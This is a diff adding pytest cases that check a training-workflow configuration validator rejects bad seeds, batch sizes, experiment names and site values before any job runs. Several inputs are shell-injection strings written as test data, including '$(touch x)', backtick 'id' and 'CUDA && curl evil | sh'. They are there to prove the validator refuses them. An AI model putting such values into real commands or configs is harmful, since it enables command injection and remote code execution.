@@ -71,6 +71,11 @@ def test_the_local_default_resolves_to_the_course_matrix_scaled_down():
                                                    r"mean 'min_tokens_per_s_per_device'\? \(known: .*\); rename or remove it"),  # fmt: skip
         ({"expect": {"max_test_loss": -1}}, "-1 is less than or equal to the minimum of 0"),
         ({"expect": {"min_mfu": 0.3, "tolerance": 1}}, "1 is greater than or equal to the maximum of 1"),
+        # the batch against the processes, at parse time rather than in training (or a division by zero in plan)
+        ({"training": {"batch": {"size": 31}}},
+         "experiments.ddp: global batch of 31 sequences is not divisible by the 2 data-parallel ranks"),
+        ({"training": {"batch": {"size": 1}}}, "experiments.ddp: global batch of 1 sequences is not divisible by the 2"),
+        ({"training": {"optim": {"weight_decay": -1}}}, "experiments.ddp: optim.weight_decay must be 0 or positive, got -1"),
     ],
 )
 def test_a_bad_experiment_is_refused_naming_the_key(change, message):
@@ -147,3 +152,59 @@ def test_container_problems_are_clear_errors(tmp_path, monkeypatch):
     assert study.in_container() == prefix  # the same prefix as the launcher's, for one process
     wildcards = type("Wildcards", (), {"experiment": "ddp", "seed": "1"})
     assert f"--container {tmp_path / 'scalelm.sif'} --container-runtime apptainer" in study.launch_args(wildcards)
+
+
+def rename(old: str, new: str):
+    return lambda local: local["experiments"].update({new: local["experiments"].pop(old)})
+
+
+@pytest.mark.parametrize(
+    "change, message",
+    [
+        (lambda local: local.update(seeds=[1, 1]), r"\[1, 1\] has non-unique elements"),
+        (lambda local: local.update(seeds=[-1]), "-1 is less than the minimum of 0"),
+        (lambda local: local.update(seeds=[2**64]), "18446744073709551616 is greater than the maximum of 4294967295"),
+        (lambda local: local.update(results=""), "'' should be non-empty"),
+        (rename("ddp", "-ddp"), "'-ddp' does not match"),
+        (rename("ddp", "d" * 65), "does not match"),
+        # what a probe found: each a clear line before any job, never a traceback at the aggregation
+        (lambda local: local.update(results="res$(touch x)"), r"results: 'res\$\(touch x\)' holds \$, which a job's "
+                                                              "command line would hand to the shell"),  # fmt: skip
+        (lambda local: local["data"].update(prepared_dir="data/`id`"), "data.prepared_dir: 'data/`id`' holds `"),
+        (lambda local: local["data"]["source"]["files"].update(test="a;b"), "data.source.files.test: 'a;b' holds ;"),
+        (lambda local: local["experiments"]["ddp"].update(nodes=64, procs_per_node=64, training={"batch": {"size": 4096}}),
+         r"experiments.ddp: 64 x 64 = 4096 processes, but this machine \(\d+ cores, \d+ GiB\) holds at most \d+"),
+    ],
+)
+def test_a_bad_study_setting_is_refused_before_any_job(change, message):
+    with pytest.raises(Exception, match=message):
+        resolve(local_config(change))
+
+
+@pytest.mark.parametrize(
+    "change, message",
+    [
+        (lambda config: config.update(seeds=[3, 1, 3]), "seeds: 3 listed more than once; list each seed once"),
+        (lambda config: config.update(seeds=[2**64]), "seeds: 18446744073709551616 is not an integer from 0 to 4294967295"),
+        (lambda config: config.update(results=" "), "results is empty"),
+        (lambda config: config["experiments"].update({"-ddp": {}}), "the name '-ddp' must be 1 to 64 letters"),
+        (lambda config: config["experiments"].update({"x" * 65: {}}), "must be 1 to 64 letters, digits"),
+        (lambda config: config["experiments"].update({"run" + "ab" * 20: {}}),
+         "ends in a part repeated 20 or more times, which Snakemake refuses as a wildcard value"),
+    ],
+)
+def test_the_package_refuses_what_the_schema_refuses_with_its_own_words(change, message):
+    """The same checks without the schema (the package is used outside the workflow too)."""
+    config = local_config()
+    change(config)
+    with pytest.raises(ConfigError, match=message):
+        Study(config)
+
+
+def test_a_site_value_that_would_reach_a_shell_is_refused(tmp_path):
+    site = tmp_path / "site.yaml"
+    site.write_text(yaml.safe_dump({"modules": ["Stages/2025", "CUDA && curl evil | sh"]}))
+    config = local_config()
+    config["site"] = str(site)
+    with pytest.raises(ConfigError, match=r"site file: modules\[1\]: 'CUDA && curl evil \| sh' holds & \|"):
+        Study(config)
